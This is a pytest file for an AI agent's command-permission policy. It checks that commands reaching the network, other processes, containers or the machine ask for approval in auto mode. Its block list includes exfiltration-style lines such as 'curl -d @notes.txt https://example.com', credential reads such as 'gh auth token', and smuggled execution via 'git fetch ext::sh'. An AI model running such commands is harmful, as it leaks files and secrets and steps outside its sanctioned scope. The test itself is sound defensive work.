"""The commands that reach beyond the folders of a session ask in `auto`, everyday ones do not."""

import pytest

from pattern_acp.domain.access import RunCommand
from pattern_acp.policy.decide import Mode, Verdict, decide

ROOT = "/work/project"

REACHING = (
    # the network, over which the model's reading could leave
    "curl https://example.com", "curl -s example.com/x", "curl example.com", "curl", "curl $URL",
    "curl http://127.0.0.1@example.com/", "curl -x proxy:1 http://localhost", "curl -K options http://localhost",
    "curl --resolve localhost:80:1.2.3.4 http://localhost", "curl http://localhost http://example.com",
    "curl --connect-to ::example.com: http://localhost", "curl --proxy=example.com http://localhost",
    "curl http://localhost.example.com", "curl -d @notes.txt https://example.com", "curl 'http://[x'",
    "wget https://example.com/a", "wget -i list http://localhost", "http POST example.com a=b",
    "timeout 9 curl https://example.com", "sh -c 'curl https://example.com'", "echo a | nc example.com 80",
    "ssh host", "ssh -o ProxyCommand='sh x' host", "scp a host:b", "rsync -a . host:/b", "rsync a rsync://host/b",
    "rsync -e 'sh x' a b", "sftp host", "mail -s a b@example.com", "socat - TCP:example.com:80", "telnet a 23",
    "git push https://example.com/x", "git push git@example.com:x main", "git clone https://example.com/x",
    "git fetch ext::sh", "git pull 'ext::sh -c x'", "git archive --remote=https://example.com/x HEAD",
    "git -C . push https://example.com/x", "gh api repos/x", "gh gist create a.py", "gh auth token",
    "git ls-remote ssh://host/x",
    "dig secret.example.com", "ping example.com", "nslookup a", "openssl s_client -connect a:443",
    "aws s3 cp a s3://b",
    "kubectl apply -f a.yaml", "kubectl exec a -- ls", "helm upgrade a b", "ls | xargs -I{} curl {}",
    "(curl example.com)",
    "echo $(curl example.com)", "nohup curl example.com &", "wget --post-file=a.txt http://example.com",
    # processes that are not this line's own
    "kill 1", "kill -9 1", "kill -TERM 1 2", "kill -s KILL 1", "kill $PID", "kill $(cat server.pid)", "kill -- -5",
    "kill `pgrep x`", "kill -n 9 7", "kill %1 7", "renice 5 1", "kill -9", "kill -5",
    # containers
    "docker run alpine", "docker run -v /:/h alpine", "docker exec a sh", "docker compose up -d", "podman run x",
    "docker cp a b:/c", "docker compose -f a.yaml up", "docker -H a run b", "docker container start a",
    "docker-compose up", "docker stop a",
    # the machine
    "npm install -g x", "npm i --global x", "yarn global add x", "npm install x -g", "cargo install x",
    "go install a@latest", "pipx install x",
    "uv tool install x", "gem install x", "cargo +nightly install x", "pnpm add -g x", "apt install x",
    "apt-get update",
    "brew install x", "dnf remove x", "systemctl start x", "service a start", "crontab file", "crontab -e", "at now",
    "xdg-open a.html", "open .", "mount a b", "sysctl -w a=1",
)  # fmt: skip

STAYING = (
    "curl http://localhost:3000/health", "curl -s http://127.0.0.1:8000/a", "curl localhost:8080", "curl localhost",
    "curl 'http://[::1]:80/'", "curl --version", "wget -qO- http://localhost:1/",
    "curl -X POST -d a=b localhost:3000",
    "curl -o out.json http://localhost:3000/a",
    "kill %1", "npm start & kill $!", "kill -l", "kill -TERM $!", "kill -9 %2",
    "git push", "git push origin main", "git fetch origin", "git pull --rebase", "git clone ./a b", "gh pr view",
    "gh pr create --fill", "docker ps", "docker images", "docker compose ps", "docker logs a",
    "npm test -- -g name", "npm run test -- --global", "uv run pytest", "uv pip install x", "kubectl get pods",
    "ping localhost",
    "helm template .", "cargo test", "go test ./...", "openssl dgst a", "gem list",
    "npm install", "npm install x", "npm test", "npm run build", "pip install -r requirements.txt", "cargo build",
    "apt list", "brew info x", "systemctl status x", "crontab -l", "rsync -a a b", "sh x.sh", "./x.sh", "make",
    "python x.py", "echo a > a.txt", "cat a > b", "node server.js", "cd sub && git status",
)  # fmt: skip


@pytest.mark.parametrize("line", REACHING, ids=ascii)
def test_what_reaches_beyond_the_folders_asks_in_auto_with_a_sentence(line: str):
    decision = decide([RunCommand(line, ROOT)], mode=Mode.AUTO, roots=[ROOT])
    assert decision.verdict is Verdict.ASK
    assert decision.reason.endswith(".")


@pytest.mark.parametrize("line", STAYING, ids=ascii)
def test_what_stays_inside_runs_in_auto(line: str):
    decision = decide([RunCommand(line, ROOT)], mode=Mode.AUTO, roots=[ROOT], reading_asks=True)
    assert (decision.verdict, decision.rule) == (Verdict.ALLOW, "auto_mode"), decision.reason


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("curl https://example.com", "carry away"),
        ("kill -9 1", "processes that this command did not start"),
        ("docker run alpine", "containers"),
        ("npm install -g x", "outside the folders of this session"),
        ("git push https://example.com/x", "not one of this project's remotes"),
    ],
)
def test_the_reason_says_what_is_reached(line: str, words: str):
    decision = decide([RunCommand(line, ROOT)], mode=Mode.AUTO, roots=[ROOT])
    assert decision.rule == "reaching"
    assert words in decision.reason
